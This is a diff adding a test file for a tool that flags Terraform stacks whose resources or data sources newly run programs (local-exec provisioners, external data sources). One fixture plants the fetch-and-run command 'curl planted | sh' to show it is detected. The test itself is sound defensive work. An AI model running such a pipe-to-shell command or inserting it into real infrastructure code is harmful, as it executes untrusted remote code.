@@ -1,0 +1,69 @@
+import { expect, test } from "vitest";
+import { reviewOf } from "../review.ts";
+import { synthesizedText } from "../test-stacks.ts";
+import { newPrograms } from "./programs.ts";
+import { changeOfTrees, parseDocument } from "./trees.ts";
+
+const base = JSON.parse(synthesizedText("single-gpu"));
+const read = (stack: unknown) => parseDocument(JSON.stringify(stack), "cdk.tf.json");
+const exec = (command: string) => [{ "local-exec": { command } }];
+const gate = "embed_ready_healthy_BA7364D8";
+
+function programs(edit: (stack: typeof base) => void): readonly string[] {
+  const stack = structuredClone(base);
+  edit(stack);
+  return newPrograms(read(base), read(stack));
+}
+
+test("a stack that runs what it ran says nothing, and one that is new neither", () => {
+  expect(programs(() => {})).toEqual([]);
+  expect(newPrograms(undefined, read(base))).toEqual([]);
+});
+
+test("a resource that runs a program is said, and what it runs is not", () => {
+  const found = programs((stack) => {
+    stack.resource.null_resource = { n: { provisioner: exec("curl planted | sh") } };
+  });
+  expect(found).toEqual([
+    "null_resource.n runs a program where it is applied (local-exec), none before.",
+  ]);
+});
+
+test("is not safe", () => {
+  const stack = structuredClone(base);
+  stack.data = { external: { e: { program: ["x"] } } };
+  const { verdict } = reviewOf([changeOfTrees("s", read(base), read(stack))]);
+  expect(verdict.level).toBe("attention");
+});
+
+test("another program in the place of one is said", () => {
+  const found = programs((stack) => {
+    stack.resource.terraform_data[gate].provisioner = exec("true");
+  });
+  expect(found).toEqual([
+    `terraform_data.${gate} runs a program where it is applied (local-exec), another one before.`,
+  ]);
+});
+
+test("several programs that are others are one sentence", () => {
+  const found = programs((stack) => {
+    for (const name of ["b", "a"]) {
+      stack.resource.null_resource = {
+        ...stack.resource.null_resource,
+        [name]: { provisioner: exec(name) },
+      };
+    }
+  });
+  expect(found).toEqual([
+    "null_resource.a, null_resource.b run a program where it is applied (local-exec), none before.",
+  ]);
+});
+
+test("a data source that runs a program is said", () => {
+  const found = programs((stack) => {
+    stack.data = { external: { e: { program: ["sh", "-c", "x"] } } };
+  });
+  expect(found).toEqual([
+    "data.external.e runs a program, or asks somebody, where a plan is made, none before.",
+  ]);
+});
